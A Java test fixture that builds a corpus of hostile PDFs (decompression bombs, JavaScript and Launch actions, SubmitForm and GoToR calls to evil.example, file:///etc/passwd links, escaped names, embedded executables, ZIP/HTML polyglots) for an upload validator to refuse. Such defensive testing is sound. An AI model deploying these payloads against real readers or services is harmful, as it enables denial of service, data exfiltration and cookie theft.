package eu.smartcity.accelerator.attachments;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.Adler32;
import java.util.zip.Deflater;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;

/**
 * A corpus of hostile PDFs, made here so that every case is known exactly: decompression bombs (an object
 * stream that inflates to 1 GiB from about 1 MB, a 2 KB page-content bomb, a high-ratio stream), every kind of
 * active content a reader would act on, and files that are not what they claim. Each is a real PDF a reader
 * would open (apart from the ones that are deliberately not PDFs).
 */
public final class HostilePdfs {

    private HostilePdfs() {}

    /** A hostile upload: the name it is sent with, its bytes, and the refusal it must get. */
    public record Hostile(String fileName, byte[] content, String code) {}

    private static final long GIB = 1024L * 1024 * 1024;
    private static byte[] objectStreamBomb;

    /** Every hostile case, in a stable order, with the message code of its refusal. */
    public static Map<String, Hostile> corpus() {
        Map<String, Hostile> corpus = new LinkedHashMap<>();
        corpus.put("object-stream bomb (1 MB inflating to 1 GiB)", new Hostile("offer.pdf", objectStreamBomb(), "upload.streamTooLarge"));
        corpus.put("page-content Flate bomb (2 KB)", new Hostile("page.pdf", pageContentBomb(), "upload.streamRatio"));
        corpus.put("high-ratio stream", new Hostile("image.pdf", highRatioStream(), "upload.streamRatio"));
        corpus.put("image too large for a reader (50,000 x 50,000)", new Hostile("poster.pdf", hugeImage(), "upload.imageTooLarge"));
        corpus.put("JavaScript open action", new Hostile("open.pdf", TestPdfs.withOpenScript(), "upload.javascript"));
        corpus.put("catalog /AA JavaScript", new Hostile("catalog-aa.pdf", catalogAdditionalAction(), "upload.automaticAction"));
        corpus.put("page /AA", new Hostile("page-aa.pdf", pageAdditionalAction(), "upload.automaticAction"));
        corpus.put("link with JavaScript", new Hostile("link-js.pdf", linkWithAction(action("JavaScript", "JS", "app.alert(1)")), "upload.javascript"));
        corpus.put("widget field /AA", new Hostile("field-aa.pdf", fieldAdditionalAction(), "upload.automaticAction"));
        corpus.put("JavaScript name tree", new Hostile("names-js.pdf", javaScriptNameTree(), "upload.javascript"));
        corpus.put("Launch action", new Hostile("launch.pdf", linkWithAction(action("Launch", "F", "calc.exe")), "upload.launch"));
        corpus.put("ImportData action", new Hostile("import.pdf", linkWithAction(action("ImportData", "F", "data.fdf")), "upload.formAction"));
        corpus.put("SubmitForm action", new Hostile("submit.pdf", linkWithAction(action("SubmitForm", "F", "https://evil.example/")), "upload.formAction"));
        corpus.put("ResetForm action", new Hostile("reset.pdf", linkWithAction(action("ResetForm", null, null)), "upload.formAction"));
        corpus.put("GoToR action", new Hostile("gotor.pdf", linkWithAction(action("GoToR", "F", "\\\\evil\\share\\x.pdf")), "upload.otherFile"));
        corpus.put("GoToE action", new Hostile("gotoe.pdf", linkWithAction(action("GoToE", "F", "other.pdf")), "upload.otherFile"));
        corpus.put("javascript: URI", new Hostile("uri.pdf", linkWithAction(action("URI", "URI", "java\tscript:alert(1)")), "upload.unsafeLink"));
        corpus.put("file: URI", new Hostile("file-uri.pdf", linkWithAction(action("URI", "URI", "file:///etc/passwd")), "upload.unsafeLink"));
        corpus.put("other action kind (Hide)", new Hostile("hide.pdf", linkWithAction(action("Hide", "T", "x")), "upload.action"));
        corpus.put("FileAttachment annotation with an executable", new Hostile("attached.pdf", fileAttachment(), "upload.attachedFile"));
        corpus.put("embedded files name tree", new Hostile("embedded.pdf", embeddedFilesNameTree(), "upload.attachedFile"));
        corpus.put("XFA form", new Hostile("xfa.pdf", xfa(), "upload.xfa"));
        corpus.put("RichMedia annotation", new Hostile("flash.pdf", richMedia(), "upload.richMedia"));
        corpus.put("name hidden with #xx escapes", new Hostile("escaped.pdf", escapedJavaScriptName(), "upload.javascript"));
        corpus.put("encrypted", new Hostile("secret.pdf", TestPdfs.encrypted(), "upload.encrypted"));
        byte[] whole = TestPdfs.plain(2);
        corpus.put("truncated", new Hostile("cut.pdf", Arrays.copyOf(whole, whole.length / 2), "upload.malformed"));
        corpus.put("not a PDF named .pdf", new Hostile("cv.pdf", "MZ\u0090\u0000 this is a program".getBytes(StandardCharsets.ISO_8859_1), "upload.notPdf"));
        corpus.put("PDF named .exe", new Hostile("setup.exe", TestPdfs.plain(1), "upload.wrongName"));
        corpus.put("PDF + ZIP polyglot", new Hostile("polyglot.pdf", zipAppended(), "upload.polyglot"));
        corpus.put("PDF + HTML polyglot", new Hostile("page.pdf", htmlInHeader(), "upload.polyglot"));
        corpus.put("0-byte file", new Hostile("empty.pdf", new byte[0], "upload.empty"));
        return corpus;
    }

    /**
     * About 1 MB on disk; its object stream (holding the catalog) inflates to 1 GiB of spaces. A deflate block of
     * spaces that only refers back to spaces decodes the same wherever it is repeated, so the stream is built by
     * repeating one block, not by compressing a gigabyte.
     */
    public static synchronized byte[] objectStreamBomb() {
        if (objectStreamBomb == null) {
            String catalog = "<< /Type /Catalog /Pages 2 0 R >>";
            String pages = "<< /Type /Pages /Kids [] /Count 0 >>";
            String offsets = "1 0 2 " + (catalog.length() + 1) + " ";
            byte[] prefix = (offsets + catalog + " " + pages + " ").getBytes(StandardCharsets.US_ASCII);
            byte[] data = spacesDeflated(prefix, GIB);
            ByteArrayOutputStream pdf = new ByteArrayOutputStream();
            write(pdf, "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
            int objStm = pdf.size();
            write(pdf, "3 0 obj\n<< /Type /ObjStm /N 2 /First " + offsets.length() + " /Filter /FlateDecode /Length " + data.length
                    + " >>\nstream\n");
            pdf.writeBytes(data);
            write(pdf, "\nendstream\nendobj\n");
            int xref = pdf.size();
            ByteArrayOutputStream rows = new ByteArrayOutputStream();
            row(rows, 0, 0, 0xffff);
            row(rows, 2, 3, 0);
            row(rows, 2, 3, 1);
            row(rows, 1, objStm, 0);
            row(rows, 1, xref, 0);
            write(pdf, "4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Length " + rows.size() + " >>\nstream\n");
            pdf.writeBytes(rows.toByteArray());
            write(pdf, "\nendstream\nendobj\nstartxref\n" + xref + "\n%%EOF\n");
            objectStreamBomb = pdf.toByteArray();
        }
        return objectStreamBomb;
    }

    private static void row(ByteArrayOutputStream rows, int type, long field2, int field3) {
        rows.write(type);
        for (int shift = 24; shift >= 0; shift -= 8) {
            rows.write((int) (field2 >> shift) & 0xff);
        }
        rows.write(field3 >> 8);
        rows.write(field3 & 0xff);
    }

    /** A zlib stream of {@code prefix} followed by spaces up to {@code total} bytes. */
    static byte[] spacesDeflated(byte[] prefix, long total) {
        int chunk = 1 << 20;
        byte[] spaces = new byte[chunk];
        Arrays.fill(spaces, (byte) ' ');
        Deflater deflater = new Deflater(9, true);
        byte[] first = Arrays.copyOf(prefix, prefix.length + chunk);
        System.arraycopy(spaces, 0, first, prefix.length, chunk);
        byte[] head = flushed(deflater, first);
        byte[] repeated = flushed(deflater, spaces);
        deflater.finish();
        byte[] tail = flushed(deflater, null);
        deflater.end();
        long repeats = (total - first.length) / chunk;
        Adler32 adler = new Adler32();
        adler.update(first);
        for (long i = 0; i < repeats; i++) {
            adler.update(spaces);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0x78);
        out.write(0xda);
        out.writeBytes(head);
        for (long i = 0; i < repeats; i++) {
            out.writeBytes(repeated);
        }
        out.writeBytes(tail);
        long checksum = adler.getValue();
        for (int shift = 24; shift >= 0; shift -= 8) {
            out.write((int) (checksum >> shift) & 0xff);
        }
        return out.toByteArray();
    }

    private static byte[] flushed(Deflater deflater, byte[] input) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        if (input == null) {
            while (!deflater.finished()) {
                out.write(buffer, 0, deflater.deflate(buffer));
            }
            return out.toByteArray();
        }
        deflater.setInput(input);
        int n;
        do {
            n = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH);
            out.write(buffer, 0, n);
        } while (n == buffer.length);
        return out.toByteArray();
    }

    /** One page whose content stream is about 2 KB compressed and 2 MB of drawing operators inflated. */
    public static byte[] pageContentBomb() {
        return document(document -> {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            page.getCOSObject().setItem(COSName.CONTENTS, flate(document, repeated("0 0 m 1 1 l S\n", 2 * 1024 * 1024)));
        });
    }

    /** An image-like stream of 8 MB of zeros compressed about a thousand times, reachable from the page. */
    public static byte[] highRatioStream() {
        return document(document -> {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            COSStream image = flate(document, new byte[8 * 1024 * 1024]);
            image.setItem(COSName.TYPE, COSName.XOBJECT);
            image.setItem(COSName.SUBTYPE, COSName.IMAGE);
            image.setInt(COSName.WIDTH, 2048);
            image.setInt(COSName.HEIGHT, 4096);
            image.setInt(COSName.BITS_PER_COMPONENT, 8);
            image.setItem(COSName.COLORSPACE, COSName.DEVICEGRAY);
            COSDictionary xobjects = new COSDictionary();
            xobjects.setItem(COSName.getPDFName("Im1"), image);
            COSDictionary resources = new COSDictionary();
            resources.setItem(COSName.XOBJECT, xobjects);
            page.getCOSObject().setItem(COSName.RESOURCES, resources);
        });
    }

    /** A JPEG that says it is 50,000 × 50,000 pixels: tiny on disk, 7.5 GB for the viewer that decodes it. */
    static byte[] hugeImage() {
        String jpeg = "\u00ff\u00d8\u00ff\u00d9";
        return classic("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im1 4 0 R >> >> >>",
                "<< /Type /XObject /Subtype /Image /Width 50000 /Height 50000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
                        + " /Filter /DCTDecode /Length 4 >>\nstream\n" + jpeg + "\nendstream");
    }

    static COSDictionary action(String kind, String key, String value) {
        COSDictionary action = new COSDictionary();
        action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
        action.setItem(COSName.S, COSName.getPDFName(kind));
        if (key != null) {
            action.setItem(COSName.getPDFName(key), new COSString(value));
        }
        return action;
    }

    static byte[] linkWithAction(COSDictionary action) {
        return document(document -> {
            PDPage page = new PDPage();
            document.addPage(page);
            COSDictionary link = annotation("Link");
            link.setItem(COSName.A, action);
            annotations(page, link);
        });
    }

    static byte[] catalogAdditionalAction() {
        return document(document -> {
            document.addPage(new PDPage());
            COSDictionary additional = new COSDictionary();
            additional.setItem(COSName.getPDFName("WC"), action("JavaScript", "JS", "app.launchURL('https://evil.example')"));
            document.getDocumentCatalog().getCOSObject().setItem(COSName.AA, additional);
        });
    }

    /** A page that runs a named page-turning action when opened: harmless in itself, but nothing runs on its own. */
    static byte[] pageAdditionalAction() {
        return document(document -> {
            PDPage page = new PDPage();
            document.addPage(page);
            COSDictionary named = new COSDictionary();
            named.setItem(COSName.S, COSName.getPDFName("Named"));
            named.setItem(COSName.N, COSName.getPDFName("NextPage"));
            COSDictionary additional = new COSDictionary();
            additional.setItem(COSName.getPDFName("O"), named);
            page.getCOSObject().setItem(COSName.AA, additional);
        });
    }

    static byte[] fieldAdditionalAction() {
        return document(document -> {
            PDPage page = new PDPage();
            document.addPage(page);
            COSDictionary widget = annotation("Widget");
            widget.setItem(COSName.FT, COSName.getPDFName("Tx"));
            widget.setItem(COSName.T, new COSString("budget"));
            COSDictionary additional = new COSDictionary();
            COSDictionary gotoPage = new COSDictionary();
            gotoPage.setItem(COSName.S, COSName.getPDFName("GoTo"));
            additional.setItem(COSName.getPDFName("K"), gotoPage);
            widget.setItem(COSName.AA, additional);
            annotations(page, widget);
            COSDictionary form = new COSDictionary();
            COSArray fields = new COSArray();
            fields.add(widget);
            form.setItem(COSName.FIELDS, fields);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
        });
    }

    static byte[] javaScriptNameTree() {
        return document(document -> {
            document.addPage(new PDPage());
            COSArray names = new COSArray();
            names.add(new COSString("init"));
            names.add(action("JavaScript", "JS", "this.print()"));
            COSDictionary tree = new COSDictionary();
            tree.setItem(COSName.NAMES, names);
            COSDictionary catalogNames = new COSDictionary();
            catalogNames.setItem(COSName.getPDFName("JavaScript"), tree);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, catalogNames);
        });
    }

    static byte[] fileAttachment() {
        return document(document -> {
            PDPage page = new PDPage();
            document.addPage(page);
            COSDictionary annotation = annotation("FileAttachment");
            annotation.setItem(COSName.FS, fileSpec(document, "invoice.exe", "MZ\u0090\u0000 program"));
            annotations(page, annotation);
        });
    }

    static byte[] embeddedFilesNameTree() {
        return document(document -> {
            document.addPage(new PDPage());
            COSArray names = new COSArray();
            names.add(new COSString("tool.exe"));
            names.add(fileSpec(document, "tool.exe", "MZ program"));
            COSDictionary tree = new COSDictionary();
            tree.setItem(COSName.NAMES, names);
            COSDictionary catalogNames = new COSDictionary();
            catalogNames.setItem(COSName.EMBEDDED_FILES, tree);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, catalogNames);
        });
    }

    static byte[] xfa() {
        return document(document -> {
            document.addPage(new PDPage());
            COSDictionary form = new COSDictionary();
            form.setItem(COSName.FIELDS, new COSArray());
            form.setItem(COSName.getPDFName("XFA"), flate(document, "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"
                    .getBytes(StandardCharsets.US_ASCII)));
            document.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
        });
    }

    static byte[] richMedia() {
        return document(document -> {
            PDPage page = new PDPage();
            document.addPage(page);
            COSDictionary annotation = annotation("RichMedia");
            annotation.setItem(COSName.getPDFName("RichMediaContent"), new COSDictionary());
            annotations(page, annotation);
        });
    }

    /** Written by hand: /Java#53cript is /JavaScript to every reader. */
    static byte[] escapedJavaScriptName() {
        return classic("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>");
    }

    static byte[] zipAppended() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(TestPdfs.plain(1));
        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
            zip.putNextEntry(new java.util.zip.ZipEntry("payload.exe"));
            zip.write("MZ program".getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }

    static byte[] htmlInHeader() {
        byte[] pdf = TestPdfs.plain(1);
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        int line = text.indexOf('\n');
        // a comment line is ignored by PDF readers, but a browser sniffing the bytes sees a page with a script
        return (text.substring(0, line + 1) + "%<html><script>alert(document.cookie)</script>\n" + text.substring(line + 1))
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A classic PDF (xref table) with the given objects numbered from 1, object 1 the catalog. */
    static byte[] classic(String... objects) {
        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
        write(pdf, "%PDF-1.7\n");
        long[] offsets = new long[objects.length];
        for (int i = 0; i < objects.length; i++) {
            offsets[i] = pdf.size();
            write(pdf, (i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n");
        }
        long xref = pdf.size();
        StringBuilder table = new StringBuilder("xref\n0 " + (objects.length + 1) + "\n0000000000 65535 f \n");
        for (long offset : offsets) {
            table.append(String.format("%010d 00000 n \n", offset));
        }
        table.append("trailer\n<< /Size ").append(objects.length + 1).append(" /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
        write(pdf, table.toString());
        return pdf.toByteArray();
    }

    private static COSDictionary annotation(String subtype) {
        COSDictionary annotation = new COSDictionary();
        annotation.setItem(COSName.TYPE, COSName.ANNOT);
        annotation.setItem(COSName.SUBTYPE, COSName.getPDFName(subtype));
        COSArray rect = new COSArray();
        for (int v : new int[] {72, 72, 200, 100}) {
            rect.add(org.apache.pdfbox.cos.COSInteger.get(v));
        }
        annotation.setItem(COSName.RECT, rect);
        return annotation;
    }

    private static void annotations(PDPage page, COSDictionary... annotations) {
        COSArray array = new COSArray();
        for (COSDictionary annotation : annotations) {
            array.add(annotation);
        }
        page.getCOSObject().setItem(COSName.ANNOTS, array);
    }

    private static COSDictionary fileSpec(PDDocument document, String name, String content) {
        COSStream file = flate(document, content.getBytes(StandardCharsets.ISO_8859_1));
        file.setItem(COSName.TYPE, COSName.getPDFName("EmbeddedFile"));
        COSDictionary ef = new COSDictionary();
        ef.setItem(COSName.F, file);
        COSDictionary spec = new COSDictionary();
        spec.setItem(COSName.TYPE, COSName.FILESPEC);
        spec.setItem(COSName.F, new COSString(name));
        spec.setItem(COSName.EF, ef);
        return spec;
    }

    private static COSStream flate(PDDocument document, byte[] content) {
        COSStream stream = document.getDocument().createCOSStream();
        try (OutputStream out = stream.createOutputStream(COSName.FLATE_DECODE)) {
            out.write(content);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return stream;
    }

    private static byte[] repeated(String text, int size) {
        byte[] unit = text.getBytes(StandardCharsets.US_ASCII);
        byte[] out = new byte[size];
        for (int i = 0; i < size; i++) {
            out[i] = unit[i % unit.length];
        }
        return out;
    }

    private static byte[] document(Consumer<PDDocument> build) {
        try (PDDocument document = new PDDocument()) {
            build.accept(document);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void write(ByteArrayOutputStream out, String text) {
        out.writeBytes(text.getBytes(StandardCharsets.ISO_8859_1));
    }
}
